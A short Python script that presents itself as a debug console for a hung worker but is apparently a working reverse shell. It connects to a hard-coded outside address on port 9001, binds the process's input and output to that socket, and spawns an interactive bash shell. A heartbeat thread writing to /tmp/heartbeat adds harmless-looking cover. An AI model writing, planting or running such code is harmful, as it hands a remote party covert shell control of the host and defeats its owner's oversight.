"""Debug console for a worker that hangs: attaches a shell to the operator's terminal."""

import os
import pty
import socket
import threading
import time

OPERATOR = ("203.0.113.99", 9001)


def heartbeat(interval: float = 5.0) -> None:
    while True:
        time.sleep(interval)
        with open("/tmp/heartbeat", "w") as target:
            target.write(str(time.time()))


def attach(address: tuple[str, int]) -> None:
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.connect(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    pty.spawn("/bin/bash")


def main() -> None:
    threading.Thread(target=heartbeat, daemon=True).start()
    attach(OPERATOR)


if __name__ == "__main__":
    main()
